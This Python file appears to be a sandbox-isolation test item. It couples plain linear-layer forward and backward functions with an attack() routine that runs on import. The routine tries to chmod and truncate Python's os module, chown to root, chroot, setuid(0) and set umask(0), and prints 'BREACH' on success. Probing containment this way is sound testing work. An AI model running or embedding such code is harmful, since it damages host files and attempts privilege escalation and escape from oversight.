"""
Changes modes, owners and times of files, its own ids, root and folder.

Earns: 30
Held by: isolated
"""

import os


def attack():
    for call in (
        lambda: os.chmod(os.__file__, 0o777),
        lambda: os.chown("/dev/null", 0, 0),
        lambda: os.utime(os.__file__),
        lambda: os.chdir("/usr"),
        lambda: os.chroot("/usr"),
        lambda: os.setuid(0),
        lambda: os.setgroups([0]),
        lambda: os.umask(0) and None,
        lambda: os.truncate(os.__file__, 1 << 30),
    ):
        try:
            call()
            print("BREACH", call)
        except OSError:
            pass


try:
    attack()
except Exception:
    pass


def linear_forward(x, w, b):
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
